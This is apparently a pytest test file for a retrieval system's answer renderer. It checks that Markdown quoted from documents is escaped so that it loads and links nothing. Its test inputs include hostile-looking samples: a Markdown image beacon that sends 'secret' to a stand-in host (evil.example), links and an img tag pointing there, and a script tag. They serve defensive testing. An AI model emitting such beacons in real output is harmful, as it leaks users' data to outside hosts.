"""Answers as Markdown: quoted documents load and link to nothing."""

from html import unescape

import pytest

from retrieval.answer.written.links import as_words, without_links


@pytest.mark.parametrize(
    "text",
    [
        "![pixel](http://evil.example/?q=secret)", "[click](http://evil.example)", "<img src=http://evil.example/x>",
        "[a]: http://evil.example", "<script>alert(1)</script>", "![x][a]", "<!-- c -->", "</div>",
    ],
)  # fmt: skip
def test_live_markdown_is_made_words(text: str) -> None:
    shown = as_words(f"《文件》：“{text}”[1]")
    assert without_links(shown) == shown  # nothing is left that could be taken out
    assert unescape(shown.replace("\\", "")) == f"《文件》：“{text}”[1]"


@pytest.mark.parametrize(
    "text", ["“违法所得五千元以上”[1]", "Tools are covered [1][2].", "| a | b |\n| --- | --- |", "5 < 6"]
)
def test_what_is_no_link_stays(text: str) -> None:
    assert as_words(text) == text
